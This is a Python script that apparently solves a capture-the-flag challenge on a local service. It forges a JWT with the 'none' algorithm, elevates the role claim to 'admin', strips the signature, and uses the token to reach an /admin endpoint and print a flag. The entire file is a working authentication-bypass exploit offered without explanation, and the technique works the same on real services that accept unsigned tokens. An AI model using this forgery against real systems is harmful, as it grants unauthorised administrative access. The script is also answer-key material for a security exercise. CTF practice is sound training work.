import json, re, urllib.parse, urllib.request
BASE = 'http://127.0.0.1:8908'
def get(path, data=None, headers=None):
    req = urllib.request.Request(BASE + path, data=data, headers=headers or {})
    try:
        return urllib.request.urlopen(req, timeout=10).read().decode()
    except urllib.error.HTTPError as exc:
        return exc.read().decode()
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

import base64
def b64(d): return base64.urlsafe_b64encode(d).rstrip(b"=").decode()
token = get("/login")
head = b64(json.dumps({"alg": "none", "typ": "JWT"}).encode())
part = token.split(".")[1]
body = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
body["role"] = "admin"
forged = head + "." + b64(json.dumps(body).encode()) + "."
flag(get("/admin", headers={"Authorization": "Bearer " + forged}))
